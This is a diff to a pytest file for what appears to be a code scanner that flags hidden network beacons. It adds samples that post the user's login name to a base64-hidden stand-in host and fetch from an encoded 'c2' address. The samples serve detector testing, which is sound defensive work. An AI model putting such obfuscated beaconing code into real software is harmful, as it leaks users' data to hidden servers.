@@ -567,3 +567,50 @@ def test_a_function_decoding_what_it_is_given_is_judged_by_its_callers(
 def test_a_name_decoded_from_a_callers_data_is_no_hidden_import(source: str, hidden: bool) -> None:
     rules = {f.rule for f in _scan(source)}
     assert ("obfuscated-import" in rules) is hidden
+
+
+_SENT = """\
+import base64, getpass, http.client
+
+
+def report(payload):
+    host = {HOST}
+    connection = http.client.HTTPSConnection(host)
+    connection.request("POST", "/", body=getpass.getuser() + payload)
+"""
+
+
+@pytest.mark.parametrize(
+    ("host", "rule"),
+    [
+        ("base64.b64decode('dGVsZW1ldHJ5LmV4YW1wbGUuaW52YWxpZA==').decode()", "host-beacon"),
+        ("'telemetry.example.invalid'", "host-info-network"),  # telemetry naming its endpoint
+    ],
+)
+def test_host_facts_sent_to_a_hidden_address_are_a_beacon_even_in_a_function(
+    host: str, rule: str
+) -> None:
+    findings = _scan(_SENT.replace("{HOST}", host))
+    beacons = [f for f in findings if f.rule in ("host-beacon", "host-info-network")]
+    assert [f.rule for f in beacons] == [rule]
+    assert all(f.scope is Scope.RUNTIME for f in beacons)
+
+
+@pytest.mark.parametrize(
+    ("address", "hidden"),
+    [
+        ("base64.b64decode('aHR0cHM6Ly9jMi5leGFtcGxlLmludmFsaWQv').decode()", True),
+        ("base64.urlsafe_b64decode(file_id).decode()", False),  # an ID the caller gives
+    ],
+)
+def test_an_address_decoded_from_what_a_function_is_given_is_not_hidden(
+    address: str, hidden: bool
+) -> None:
+    source = f"""\
+    import base64, requests
+
+
+    def fetch(file_id):
+        return requests.get({address})
+    """
+    assert ("network-hidden-destination" in {f.rule for f in _scan(source)}) is hidden
